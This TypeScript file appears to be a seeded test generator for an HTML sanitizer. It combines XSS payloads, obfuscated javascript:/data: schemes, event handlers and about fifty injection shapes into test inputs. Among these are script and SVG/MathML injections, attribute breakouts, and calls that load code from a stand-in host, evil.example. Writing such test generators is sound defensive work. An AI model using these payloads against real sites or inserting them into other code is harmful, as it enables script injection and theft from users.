/** Generated injection attacks on content that is rendered as HTML. Seeded, so that every run tries the same ones. */

import { randomNumbers } from "./random";

const payloads = [
  "alert(1)",
  "window.planted=1",
  "import('//evil.example/x.js')",
  "fetch('//evil.example')",
];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "javascript&colon;",
  "jav&#x09;ascript:",
  "&#106;avascript:",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;",
  "\u0001javascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=",
  "//evil.example/",
  "\\\\evil.example/",
  "/\\evil.example/",
  "blob:https://evil.example/",
  "file:///etc/passwd?",
];
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "ONMOUSEOVER",
  "onfocus",
  "onanimationstart",
  "ontoggle",
  "onpointerenter",
];

const shapes: readonly ((payload: string, scheme: string, handler: string) => string)[] = [
  (p) => `<script>${p}</script>`,
  (p) => `<ScRiPt >${p}</sCrIpT\t>`,
  (p) => `<script\n>${p}`,
  (p) => `<<script>script>${p}<</script>/script>`,
  (p) => `</script><script>${p}</script>`,
  (p) => `<!--><script>${p}</script>-->`,
  (p) => `--!><script>${p}</script><!--`,
  (p) => `]]><script>${p}</script>`,
  (p) => `<?xml ?><script>${p}</script>`,
  (_p, s) => `[a link](${s}x)`,
  (_p, s) => `[a link](<${s}x>)`,
  (_p, s) => `<${s.trim()}x>`,
  (_p, s) => `[a link][ref]\n\n[ref]: ${s.trim()}x`,
  (_p, s) => `![a picture of it](${s}x)`,
  (_p, s) => `<a href="${s}x">here</a>`,
  (_p, s) => `<a href=${s.trim()}x>here</a>`,
  (_p, s) => `<form action="${s}x"><button formaction="${s}y">go</button></form>`,
  (_p, s) => `<iframe src="${s}x"></iframe>`,
  (p) => `<iframe srcdoc="<script>${p}</script>"></iframe>`,
  (_p, s) => `<object data="${s}x"></object><embed src="${s}x">`,
  (_p, s) => `<base href="${s}x">`,
  (_p, s) => `<meta http-equiv="refresh" content="0;url=${s}x">`,
  (_p, s) => `<link rel="stylesheet" href="${s}x">`,
  (p, _s, h) => `<img src=x ${h}=${p}>`,
  (p, _s, h) => `<img src="x"\n${h}\n=\n"${p}">`,
  (p, _s, h) => `<p ${h}="${p}">text</p>`,
  (p, _s, h) => `<div class="table-wrap" tabindex="0" ${h}="${p}" autofocus>text</div>`,
  (p, _s, h) => `<a href="/contact" ${h}=${p}>text</a>`,
  (p, _s, h) => `<a/${h}='${p}'/href=/contact>text</a>`,
  (p, _s, h) => `<details open ${h}=${p}><summary>more</summary></details>`,
  (p, _s, h) => `<svg ${h}=${p}><circle/></svg>`,
  (p) => `<svg><script>${p}</script></svg>`,
  (p) => `<svg><style><img src=x onerror=${p}></style></svg>`,
  (p) => `<svg><a xlink:href="javascript:${p}"><text>x</text></a></svg>`,
  (p) => `<svg><animate attributeName=href values="javascript:${p}"/></svg>`,
  (p) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${p}></style></mglyph></table></mtext></math>`,
  (p) => `<noscript><p title="</noscript><img src=x onerror=${p}>"></noscript>`,
  (p) => `<template><script>${p}</script></template>`,
  (p) => `<textarea></textarea><script>${p}</script>`,
  (p) =>
    `<style>@import '//evil.example/x.css';</style><p style="background:url(javascript:${p})">x</p>`,
  (p) => `<p title="&quot;&gt;&lt;script&gt;${p}">x</p>`,
  (p) => `&lt;script&gt;${p}&lt;/script&gt;`,
  (p) => `\`<script>${p}</script>\``,
  (p) => `\`\`\`html\n<script>${p}</script>\n\`\`\``,
  (p) => `| a | b |\n|---|---|\n| <script>${p}</script> | <img src=x onerror=${p}> |`,
  (p) => `## <img src=x onerror=${p}> heading`,
  (p) => `"><script>${p}</script>`,
  (p) => `' onmouseover='${p}`,
  (p) => `" autofocus onfocus="${p}`,
  (p) => `\u2028</script\u2028><script>${p}</script>`,
  (p) => `{"@type":"</script><script>${p}</script>"}`,
  (p) => `<h2 id="___loader" name="gatsby-scripts">${p}</h2>`,
];

export interface Attack {
  name: string;
  text: string;
}

/** Returns `count` attacks, which cycle through all shapes. */
export function attacks(count: number): Attack[] {
  const random = randomNumbers(7);
  const pick = <T>(list: readonly T[]): T => list[random(list.length)] as T;
  return Array.from({ length: count }, (_, index) => {
    const shape = shapes[index % shapes.length]!;
    const before = pick(["", "Some words. ", "- in a list ", "> quoted ", "*emphasis* "]);
    const text = before + shape(pick(payloads), pick(schemes), pick(handlers));
    return { name: `${index}: ${text.replace(/\s+/g, " ").slice(0, 70)}`, text };
  });
}
